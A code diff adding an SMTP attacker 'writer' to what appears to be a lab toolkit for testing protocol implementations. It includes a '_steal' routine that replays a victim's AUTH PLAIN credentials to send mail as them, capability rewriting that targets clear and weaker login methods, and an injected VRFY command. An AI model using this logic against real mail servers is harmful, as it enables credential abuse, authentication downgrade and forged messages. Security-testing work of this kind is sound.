@@ -9,6 +9,17 @@ from collections import deque
 from labkit.dialects.base import CLIENT, SERVER, Dialect, Phrase, phrase
 from labkit.dialects.reader import LARGEST, MOST_UNANSWERED, TextReader, text_end
 from labkit.dialects.smtp_words import CAPABILITIES, COMMANDS, REPLIES, explain
+from labkit.dialects.writing import (
+    Account,
+    Capabilities,
+    Injected,
+    Writer,
+    lines,
+    listed,
+    plain,
+    untagged_command,
+    willing,
+)
 
 _WAITS_FOR_ANSWER = {b"STARTTLS", b"DATA", b"AUTH"}
 """Commands after which only the reply says what the client's next bytes are."""
@@ -137,6 +148,45 @@ def _recognises(greeting: bytes) -> bool:
     return first.startswith((b"220", b"554")) and b"SMTP" in first
 
 
+def _steal(tag: str, account: Account, _: int) -> bytes:
+    """Each command earns just the reply that the victim waits for; behind DATA its own words are the message."""
+    commands = ("EHLO mallory.lab.test", f"AUTH PLAIN {plain(account.user, account.password)}")
+    envelope = (f"MAIL FROM:<{account.address}>", f"RCPT TO:<{account.address}>", "DATA")
+    return b"".join(untagged_command(text, tag) for text in (*commands, *envelope))
+
+
+def _write_list(capabilities: Capabilities) -> str:
+    *others, last = capabilities or ("HELP",)
+    return "".join(f"250-{one}\r\n" for one in others) + f"250 {last}\r\n"
+
+
+WRITER = Writer(
+    command=untagged_command,
+    replies=lines(
+        done="250 2.0.0 {text}",
+        refused="502 5.5.1 {text}",
+        later="454 4.7.0 {text}",
+        odd="200 {text}",
+        go_ahead="220 {text}",
+    ),
+    willing=willing({"AUTH": b"235 OK\r\n", "DATA": b"354 OK\r\n"}, b"250 OK\r\n"),
+    login=lambda user, password, tag: untagged_command(f"AUTH PLAIN {plain(user, password)}", tag),
+    capabilities=listed(
+        rb"(?P<head>250-[^\n]*\n)(?P<list>(?:250[ -][^\n]*\n)+)(?P<tail>)",
+        lambda text: tuple(line[4:] for line in text.splitlines()),
+        _write_list,
+        "250-mail.lab.test\r\n{list}",
+    ),
+    message_end=b"\r\n.\r\n",
+    login_names=frozenset({"AUTH"}),
+    clear_login=("AUTH PLAIN",),
+    weaker_login=("AUTH LOGIN",),
+    older=(),
+    corner=lambda _: None,  # it is enough that the client does not log in
+    injected=Injected("VRFY mallory", r"252|502|55[0-3]"),
+    steal=_steal,
+)
+
 SMTP = Dialect(
     name="SMTP",
     source="RFC 5321, RFC 3207",
@@ -149,6 +199,7 @@ SMTP = Dialect(
     messages=lambda data: [(0, text_end(data))],
     sasl=r"AUTH +(?P<mechanism>\S+)(?: +(?P<initial>\S+))?",
     reader=_Reader,
+    writes=WRITER,
     recognises=_recognises,
     explain=explain,
     commands=COMMANDS,
